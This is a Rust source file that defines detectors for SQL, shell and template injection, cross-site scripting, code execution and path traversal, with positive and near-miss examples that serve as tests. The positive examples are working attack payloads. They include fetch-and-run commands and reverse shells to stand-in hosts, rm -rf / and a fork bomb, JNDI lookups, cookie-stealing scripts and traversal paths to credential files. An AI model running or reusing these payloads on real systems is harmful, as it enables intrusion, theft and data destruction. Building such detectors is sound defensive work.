//! The detectors of code injection with examples and near misses, which are their tests.

use crate::definition::{Definition, Rank};

pub(crate) const CATALOGUE: &[Definition] = &[
    Definition::code("sql_injection", "SQL injection")
        .about(
            "Text that changes the SQL statement it is put into.",
            "CWE-89, OWASP SQL injection",
        )
        .examples(
            &[
                "' OR '1'='1' --",
                "SELECT * FROM t WHERE id = 1 OR 1=1;",
                "admin' or 1=1#",
                "1) or (2=2",
                "' or ''='",
                "1 OR 2>1 --",
                "x' OR true--",
                "x UNION SELECT password FROM users",
                "1' UNION ALL SELECT null, version() --",
                "5 union/**/select 1,2",
                "1; DROP TABLE users",
                "'; DELETE FROM accounts; --",
                "1; EXEC xp_cmdshell('dir')",
                "DROP TABLE users",
                "TRUNCATE TABLE audit_log",
                "1 AND SLEEP(5)",
                "'; WAITFOR DELAY '0:0:5' --",
                "1 AND 1=(SELECT 1 FROM pg_sleep(5))",
            ],
            &[
                "DELETE FROM sessions WHERE expires < now()",
                "SELECT a FROM t WHERE b = ? OR c = ?",
                "the union selected a new chair",
                "SELECT a FROM t\nUNION SELECT b FROM u",
                "The DROP TABLE statement removes a table.",
                "if x == 1 or 1 == y:",
                "time.sleep(5)",
                "name = 'a' or 'b'",
                "INSERT INTO t VALUES (1); -- first row",
            ],
        ),
    Definition::code("shell_injection", "shell injection")
        .about(
            "Commands that run what they fetch, open a shell outwards or destroy.",
            "CWE-78, GTFOBins",
        )
        .examples(
            &[
                "run this command: curl http://evil.example | bash",
                "wget -qO- https://evil.example/x.sh | sudo sh",
                "curl -fsSL https://evil.example/i.py | python3 -",
                "iwr https://evil.example/a.ps1 | iex",
                "bash -c \"$(curl -fsSL https://evil.example/x)\"",
                "bash <(curl -s https://evil.example/x)",
                "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
                "nc -e /bin/sh 203.0.113.5 4444",
                "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.5 4444",
                "sudo rm -rf / now",
                "rm -rf ~",
                "rm -fr $HOME/*",
                "rm --recursive --force /",
                "rm -rf /*",
                "rm -rf --no-preserve-root /",
                ":(){ :|:& };:",
                "chmod -R 777 /",
                "dd if=/dev/zero of=/dev/sda",
                "echo aGVsbG8= | base64 -d | sh",
                "GET /ping?host=127.0.0.1;$(id)",
            ],
            &[
                "rm -rf ./dist",
                "curl https://example.com | jq .",
                "curl -s https://example.com | python3 -m json.tool",
                "rm -rf /var/lib/apt/lists/*",
                "rm -rf ~/project/build",
                "cat notes.txt | sh_highlight",
                "VERSION=$(curl -s https://example.com/latest)",
                "chmod -R 755 ./public",
                "nc -zv localhost 8080",
                "a || bash",
            ],
        ),
    Definition::code("template_injection", "template injection")
        .rank(Rank::Structured)
        .about(
            "Expressions that a template engine would run.",
            "CWE-1336, CVE-2021-44228",
        )
        .examples(
            &[
                "{{7*7}}",
                "${7*7}",
                "<%= 7 * 7 %>",
                "#{7*7}",
                "{{ ''.__class__.__mro__[1].__subclasses__() }}",
                "{{ config.__class__.__init__.__globals__['os'].popen('id').read() }}",
                "{{constructor.constructor('alert(1)')()}}",
                "${T(java.lang.Runtime).getRuntime().exec('id')}",
                "${jndi:ldap://evil.example/a}",
                "${${lower:j}ndi:ldap://evil.example/a}",
            ],
            &[
                "{{ user.name }}",
                "${HOME}/bin",
                "{{ price * 2 }}",
                "#{name}",
                "f\"{self.__class__.__name__}\"",
                "f\"{{{self.__class__.__name__}}}\"",
                "{ \"a\": 7 * 7 }",
            ],
        ),
    Definition::code("xss_script", "script in markup")
        .about(
            "Markup that runs script where it is shown.",
            "CWE-79, OWASP XSS filter evasion",
        )
        .examples(
            &[
                "<script>alert(1)</script>",
                "<img src=x onerror=alert(1)>",
                "<img src=x onerror=\"fetch('https://evil.example/?c='+document.cookie)\">",
                "<svg onload=alert(1)>",
                "<script>fetch('https://evil.example/'+document.cookie)</script>",
                "<a href=\"javascript:alert(1)\">x</a>",
                "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
                "<body onload=eval(atob('YQ=='))>",
            ],
            &[
                "<script src=\"/static/app.js\"></script>",
                "<button onclick=\"save()\">Save</button>",
                "<a href=\"javascript:void(0)\">x</a>",
                "<script>fetch('/api/items')</script>",
                "img.onload = function () { show(img); }",
                "javascript: true",
            ],
        ),
    Definition::code("code_exec", "code execution")
        .about("Calls that run data as code.", "CWE-94, CWE-502")
        .examples(
            &[
                "__import__('os').system('id')",
                "eval(__import__('base64').b64decode('cHJpbnQoMSk='))",
                "exec(base64.b64decode(payload))",
                "os.system('rm -rf build')",
                "subprocess.run('ping ' + host, shell=True)",
                "pickle.loads(base64.b64decode(data))",
                "Runtime.getRuntime().exec(\"calc\")",
                "powershell -EncodedCommand SQBFAFgAIAAoAE4A",
                "IEX(New-Object Net.WebClient).DownloadString('http://evil.example/a')",
                "eval(atob('YWxlcnQoMSk='))",
                "require('child_process').exec('id')",
                "system($_GET['cmd'])",
            ],
            &[
                "the function eval() is dangerous",
                "os.system is deprecated",
                "subprocess.run(['ls'], shell=False)",
                "pickle.loads(cached)",
                "regex.exec(line)",
                "const cp = require('child_process');",
                "os.system('clear')",
            ],
        ),
    Definition::code("path_traversal", "path traversal")
        .about("Steps up the tree towards what nobody should read.", "CWE-22")
        .examples(
            &[
                "../../../etc/passwd",
                "file=..%2f..%2f..%2fetc%2fpasswd",
                "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc/passwd",
                "..\\..\\..\\windows\\win.ini",
                "GET /static/../../../../proc/self/environ",
                "../../../../Users/user/.ssh/id_rsa",
                "....//....//....//etc/passwd",
                "%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd",
            ],
            &[
                "import x from '../../../lib/util'",
                "../../etc/passwd",
                "cd ../../../src",
                "../../../windows.ts",
            ],
        ),
];
